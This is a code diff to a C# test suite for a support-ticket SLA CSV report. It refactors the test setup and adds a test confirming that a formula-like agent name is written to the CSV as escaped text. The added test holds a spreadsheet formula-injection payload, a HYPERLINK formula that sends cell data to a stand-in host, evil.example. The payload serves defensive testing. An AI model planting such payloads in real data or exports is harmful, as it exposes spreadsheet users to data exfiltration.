@@ -28,14 +28,7 @@ public abstract class SlaReportTests(RapportFactory app) : DatabaseTests(app)
     public override async ValueTask InitializeAsync()
     {
         await base.InitializeAsync();
-        var now = App.Now;
-        var monday = now.Date.AddDays(((int)DayOfWeek.Monday - (int)now.DayOfWeek + 7) % 7).AddHours(9);
-        if (monday <= now)
-        {
-            monday = monday.AddDays(7);
-        }
-        App.Time.Advance(monday - now);
-        _monday = DateTime.SpecifyKind(monday, DateTimeKind.Utc);
+        _monday = App.AdvanceToNext(DayOfWeek.Monday, new(9, 0));
         _ann = await App.CreateAgentAsync(AgentRoles.Agent);
         _bob = await App.CreateAgentAsync(AgentRoles.Agent);
         _asAnn = await App.CreateTokenClientAsync(ApiTokenScope.Write, _ann, Ct);
@@ -234,6 +227,26 @@ public abstract class SlaReportTests(RapportFactory app) : DatabaseTests(app)
         lines.ShouldContain($"{Week2:yyyy-MM-dd},,All agents,0,,,1,4.00,4.00,0,,,0,0,,1,1,100.00,0,0,,2,2,100.00,0,1,0.00");
         lines.ShouldContain($"all,{_ann.Id},{_ann.DisplayName},3,2.00,7.60,2,3.00,3.80,1,11.00,11.00,2,4,50.00,2,3,66.67,1,3,33.33,5,6,83.33,1,1,100.00");
         lines[^1].ShouldBe("all,,All agents,5,2.00,7.00,2,3.00,3.80,1,11.00,11.00,4,6,66.67,2,3,66.67,1,3,33.33,5,6,83.33,1,2,50.00");
+    }
+
+    /// <summary>Agents choose their own names: one that looks like a formula reaches the spreadsheet as text.</summary>
+    [Fact]
+    public async Task SlaCsv_AgentNamedLikeAFormula_IsWrittenAsText()
+    {
+        const string name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
+        await using (var db = App.CreateDbContext())
+        {
+            await db.Users.Where(a => a.Id == _bob.Id).ExecuteUpdateAsync(set => set.SetProperty(a => a.DisplayName, name), Ct);
+        }
+        var ticket = await OpenAsync(null);
+        ClockTo(0, 10);
+        await ReplyAsync(_asBob, ticket);
+        var client = await App.CreateTokenClientAsync(ApiTokenScope.Read, ct: Ct);
+
+        var csv = await client.GetStringAsync($"/api/v1/reports/sla.csv?from={Week1:yyyy-MM-dd}&to={Week1.AddDays(6):yyyy-MM-dd}&agent={_bob.Id}", Ct);
+
+        var guarded = $"{Week1:yyyy-MM-dd},{_bob.Id},\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",1,1.00,1.00,";
+        csv.Split("\r\n").ShouldContain(line => line.StartsWith(guarded, StringComparison.Ordinal), csv);
     }
 
     [Fact]
